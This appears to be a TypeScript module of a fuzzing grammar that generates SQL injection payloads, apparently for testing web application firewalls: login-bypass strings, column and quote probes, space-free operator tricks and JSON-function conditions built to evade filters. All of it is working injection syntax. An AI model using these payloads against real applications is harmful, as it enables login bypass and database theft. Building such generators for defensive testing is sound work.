/** Short and odd forms: log-ins without a password, probes for the shape of a query, operators, JSON. */
import {
  bound,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  repeat,
  text,
  weighted,
  words,
} from '../../grammar.ts';
import { MARKER } from '../hosts.ts';
import { PLAUSIBLE_VALUE, WORD } from '../plausible-values.ts';
import { QUESTION } from './conditions.ts';
import { CLOSING, COMMENT_OUT, delivered, LEAD } from './frame.ts';
import { COLUMN, NUMBER, QUERY, SERVER_VALUE, STOLEN, SYSTEM_TABLE, sqlString, TABLE } from './vocabulary.ts';

const ACCOUNT: Rule = weighted(
  [6, words('admin administrator root sa test user guest superuser sysadmin manager operator')],
  [2, WORD],
  [2, text`${WORD}@${WORD}.${words('com local org test')}`],
  [1, ''],
);

/** Log-ins that comment the password out or are always right. */
export const authenticationBypass: Rule = delivered(
  weighted(
    [4, text`${ACCOUNT}'${maybe(' ')}${COMMENT_OUT}`],
    [2, text`${ACCOUNT}${oneOf("')", "'))", '"', '")', "';", "' ;")}${maybe(' ')}${COMMENT_OUT}`],
    [
      3,
      text`${ACCOUNT}' or ${oneOf("'1'='1", "''='", '1=1', "'a'='a", "'x'='x", "1='1", '2>1', "'1", 'true')}${maybe(COMMENT_OUT, 0.6)}`,
    ],
    [2, text`${ACCOUNT}') or ('${words('1 a x z')}'='${words('1 a x z')}`],
    [
      2,
      text`' or ${COLUMN} ${oneOf(text`like '%${maybe(WORD)}%`, "is not null or 'a'='", text`= '${ACCOUNT}`, "<> '")}`,
    ],
    [1, text`' or 1=1 limit ${integer(1, 9)}${maybe(text`,1`)}${COMMENT_OUT}`],
    [
      1,
      text`${words("'=' '=''or' '||' '-' ' '&' '^' '*' '=0--+ 'or'1 '='or' \"=\" 'or''=' '<>' '|' '-0||'")}${maybe(COMMENT_OUT, 0.4)}${maybe(text`${integer(0, 99)}`, 0.3)}`,
    ],
    [2, text`' union select ${repeat(text`'${WORD}'`, 1, 4, ',')}${COMMENT_OUT}`],
    [1, text`' and 1=0 union all select '${ACCOUNT}','${characters('0123456789abcdef', 32)}${COMMENT_OUT}`],
    [
      1,
      text`' union select ${oneOf(text`md5('${MARKER}')`, text`'${characters('0123456789abcdef', 32)}'`)}${COMMENT_OUT}`,
    ],
    [1, text`${ACCOUNT}' group by ${COLUMN} having 1=1${COMMENT_OUT}`],
    [0.5, text`x' or full_name like '%${WORD}%`],
    [0.5, text`${ACCOUNT}'/*`],
  ),
);

/** Looking for the number of columns, their names, and which quote the query uses. */
export const probing: Rule = delivered(
  weighted(
    [3, text`${LEAD}${maybe(CLOSING, 0.8)} order by ${integer(1, 60)}${COMMENT_OUT}`],
    [1, text`${PLAUSIBLE_VALUE} order by ${integer(1, 99)}${maybe(COMMENT_OUT)}`],
    [
      2,
      text`${LEAD}${CLOSING} group by ${repeat(oneOf(COLUMN, integer(1, 20)), 1, 5, ',')}${maybe(' having 1=1')}${COMMENT_OUT}`,
    ],
    [
      2,
      text`${LEAD}${maybe(CLOSING, 0.7)} having ${oneOf('1=1', '1=2', text`${COLUMN}=1`, 'count(*)>0')}${COMMENT_OUT}`,
    ],
    [1, text`${LEAD}${CLOSING} limit ${integer(0, 9)},${integer(1, 9)}${COMMENT_OUT}`],
    [1, text`${LEAD}${CLOSING} limit ${integer(0, 9)} offset ${integer(1, 9)}${COMMENT_OUT}`],
    [1, text`${integer(0, 99)} procedure analyse(${maybe(integer(1, 9))})${COMMENT_OUT}`],
    [
      1,
      text`${COLUMN},${oneOf(text`(${QUERY})`, text`if(${QUESTION},1,2)`, text`sleep(${integer(1, 9)})`)} ${words('asc desc')}`,
    ],
    [1, text`${LEAD}' and ${COLUMN} is null${COMMENT_OUT}`],
    [1, text`${LEAD}' and ${TABLE}.${COLUMN} is not null${COMMENT_OUT}`],
    [
      2,
      text`${PLAUSIBLE_VALUE}${oneOf(`'"`, `"'`, `')--`, `'))--`, `';--`, `' --`, `'#`, `'/*`, `")--`, `'||'`, `'+'`, `' '`, `\\'--`, `'"\`)--`, `%'--`, `';`, `'))`, `'")`, `''''`, `'"))`)}`,
    ],
    [1, text`${LEAD}'||(select '' from ${oneOf('dual', TABLE, text`${TABLE} where rownum=1`)})||'`],
    [1, text`${PLAUSIBLE_VALUE}${characters(`'"()`, 3, 9)}${COMMENT_OUT}`],
    [0.5, text`${integer(1, 99)}${words('.(,),.\'" .)(",,\'(" ,(.\'."), ).,,\'(".(')}`],
  ),
);

const ODD_OPERATION: Rule = oneOf(
  text`${words('div mod rlike regexp xor')} ${oneOf('0', '1', "'a'", text`(${QUERY})`)}`,
  text`${words('sounds like')} like '${WORD}'`,
  text`is ${maybe('not ')}${words('null true false unknown')} or ${NUMBER}`,
  text`collate ${words('utf8_bin latin1_swedish_ci')} or ${NUMBER}=${NUMBER}`,
  text`in (${QUERY})`,
  text`<@=1 or ${NUMBER}`,
  text`<=>${NUMBER} or ${NUMBER}`,
  text`between ${NUMBER} and ${NUMBER} or ${NUMBER}`,
  text`and @${characters(LOWER_CASE, 1, 3)}:=(${QUERY})`,
  text`or @@${words('version hostname datadir port')}`,
  text`or(${NUMBER})=(${NUMBER})`,
  text`&&(${QUESTION})`,
  text`||(${QUESTION})`,
  text`||${SERVER_VALUE}||`,
  text`=(select(${STOLEN})from(${TABLE}))`,
  text`or row(${NUMBER},${NUMBER})=(${QUERY})`,
  text`or ${NUMBER} escape '${words('! a |')}'`,
  text`match(${COLUMN}) against('${WORD}') or 1`,
  text`or {x ${NUMBER}}={y ${NUMBER}}`,
  text`and(select(1)from(${SYSTEM_TABLE})limit/**/1)`,
);

/** Operators and notations that patterns forget, and forms without any space. */
export const operators: Rule = delivered(
  weighted(
    [3, text`${oneOf(PLAUSIBLE_VALUE, text`${LEAD}${CLOSING}`)} ${ODD_OPERATION}${maybe(COMMENT_OUT, 0.6)}`],
    [
      2,
      text`${LEAD}'${words('or and || && xor')}(${oneOf(NUMBER, QUESTION)})${oneOf('=', '<', '>', 'like')}(${NUMBER})${maybe(COMMENT_OUT, 0.8)}`,
    ],
    [
      1,
      text`${integer(0, 9)}${words('e0 e1 .0 . .e1 e0. /**/ .1')}union${words('(select /**/select%0a /*!select*/ %a0select')}(${repeat(NUMBER, 1, 5, '),(')})${maybe(text`from(${TABLE})`)}${COMMENT_OUT}`,
    ],
    [
      1,
      text`${LEAD}'${words('or||and xor or/**/ and%0a')}'${words('1 a')}'${words('like < > = regexp')}'${words('1 a')}`,
    ],
    [1, text`${LEAD}'-(${oneOf(NUMBER, text`select(${STOLEN})from(${TABLE})`)})-'`],
    [1, text`${LEAD}'^(${QUESTION})^'`],
    [1, text`${integer(0, 99)}%26%26${QUESTION}`],
    [1, text`'+${words('1 0 2')}${oneOf('.', '*', '-')}${integer(0, 9)}${words("+' -' ||' *' ='")}${COMMENT_OUT}`],
    [1, text`${LEAD}'/**/${words('or and')}/**/${NUMBER}${words('= < > like')}/**/${NUMBER}${maybe(COMMENT_OUT)}`],
    [0.7, text`${integer(1, 99)} ${words('or and')} '${WORD}' ${words('|| + like')} '${WORD}' = '${WORD}'`],
    [0.7, text`${integer(0, 99)} AND ${bound(integer(1, 9), (n) => `JSON_LENGTH('[${n}]')<=${n}`)}`],
  ),
);

const JSON_TEXT: Rule = oneOf(
  `{"a":${'1'}}`,
  text`{"${characters(LOWER_CASE, 1, 4)}":${integer(0, 99)}}`,
  text`[${integer(0, 9)}]`,
  '{}',
  text`{"${WORD}":"${WORD}"}`,
);
const JSON_CONDITION: Rule = oneOf(
  bound(JSON_TEXT, (json) => text`'${json}'::jsonb ${words('@> <@ = ?| ?')} '${json}'${maybe('::jsonb')}`),
  text`json_length('${JSON_TEXT}')${words('<= >= = <')}${integer(0, 9)}`,
  text`json_extract('${JSON_TEXT}','$.${characters(LOWER_CASE, 1)}')=${NUMBER}`,
  text`'${JSON_TEXT}'->'$.${characters(LOWER_CASE, 1)}'=${NUMBER}`,
  text`('${JSON_TEXT}'::json->>'${characters(LOWER_CASE, 1)}')=${sqlString(integer(0, 9))}`,
  text`json_valid('${JSON_TEXT}')=1`,
  text`json_contains('${JSON_TEXT}','${NUMBER}')`,
  text`json_depth('${JSON_TEXT}')!=${integer(3, 9)}`,
  text`json_type('${JSON_TEXT}') is not null`,
  text`isjson('${JSON_TEXT}')>0`,
  text`json_value('${JSON_TEXT}','$.${characters(LOWER_CASE, 1)}') is null`,
  text`jsonb_array_length('[${NUMBER}]')=1`,
  text`data @> '${JSON_TEXT}'`,
  text`json_quote('${WORD}')='"${WORD}"'`,
);

/** JSON functions and operators, which WAFs learnt late. */
export const jsonOperators: Rule = delivered(
  weighted(
    [
      5,
      text`${oneOf(PLAUSIBLE_VALUE, text`${LEAD}${CLOSING}`)} ${words('or and OR AND ||')} ${JSON_CONDITION}${maybe(COMMENT_OUT, 0.8)}`,
    ],
    [1, text`${LEAD}' and ${JSON_CONDITION} union select ${repeat(NUMBER, 1, 6, ',')}${COMMENT_OUT}`],
    [1, text`${LEAD}' and ${JSON_CONDITION} and (${QUESTION})${COMMENT_OUT}`],
    [1, text`${PLAUSIBLE_VALUE}' and ${JSON_CONDITION} and '1'='1`],
  ),
);
